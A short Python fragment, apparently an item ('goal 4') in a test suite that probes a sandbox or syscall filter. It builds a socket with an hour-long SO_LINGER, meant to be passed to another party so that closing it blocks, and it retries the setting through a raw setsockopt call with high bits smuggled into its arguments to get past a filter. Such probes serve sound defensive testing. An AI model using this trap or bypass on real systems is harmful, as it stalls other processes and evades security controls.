# goal 4: a connection that makes whoever closes it wait, to be sent to somebody else
def attack():
    ours, theirs = socket.socketpair()
    linger = struct.pack("ii", 1, 3600)
    no_error(lambda: ours.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger))
    no_error(lambda: call("setsockopt", ours.fileno(), 1 | 1 << 40, 13 | 1 << 40, linger, 8))
    found = ours.getsockopt(socket.SOL_SOCKET, socket.SO_LINGER, 8)
    return found if found != bytes(8) else None
